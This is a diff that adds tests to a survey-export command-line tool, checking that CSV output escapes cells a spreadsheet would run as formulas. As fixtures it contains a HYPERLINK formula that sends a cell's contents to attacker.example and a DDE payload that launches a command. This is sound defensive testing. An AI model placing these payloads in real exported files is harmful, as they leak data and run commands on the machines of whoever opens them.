@@ -95,3 +95,35 @@ def test_bad_options_say_what_is_wrong(cli: CliRunner, tmp_path: Path) -> None:
     assert result.exit_code == 2 and "expected a date like 2026-03-31" in result.output
     result = cli.invoke(app, ["export", "answers", "--out", str(tmp_path / "no" / "x.csv")])
     assert result.exit_code == 2 and "does not exist" in result.output
+
+
+def test_text_that_a_spreadsheet_would_run_is_written_as_plain_text(
+    cli: CliRunner, session: Session, tmp_path: Path
+) -> None:
+    from sqlmodel import select
+
+    from surveys.models import Agency, Answer
+
+    barriers = session.exec(select(Answer).where(Answer.item == "barriers")).first()
+    assert barriers is not None
+    barriers.value_json = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click")']
+    agency = session.exec(select(Agency).where(Agency.name == "Northgate NHS Trust")).one()
+    agency.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    session.add_all([barriers, agency])
+    session.commit()
+
+    rows = export(cli, tmp_path / "all.csv")
+    values = {r["value"] for r in rows if r["item"] == "barriers"}
+    assert '\'=HYPERLINK("http://attacker.example/?d="&A1,"Click")' in values
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+    assert {r["agency"] for r in rows if r["sector"] == "health"} == {
+        "'@SUM(1+1)*cmd|' /C calc'!A0"
+    }
+
+
+def test_safe_cells_leave_numbers_and_ordinary_text_alone() -> None:
+    from surveys.csv_safe import safe_cell
+
+    assert [safe_cell(v) for v in (-3, 2.5, "time; support", "-1", "+44 7700", "\tx", "\rx")] == [
+        -3, 2.5, "time; support", "'-1", "'+44 7700", "'\tx", "'\rx"
+    ]  # fmt: skip
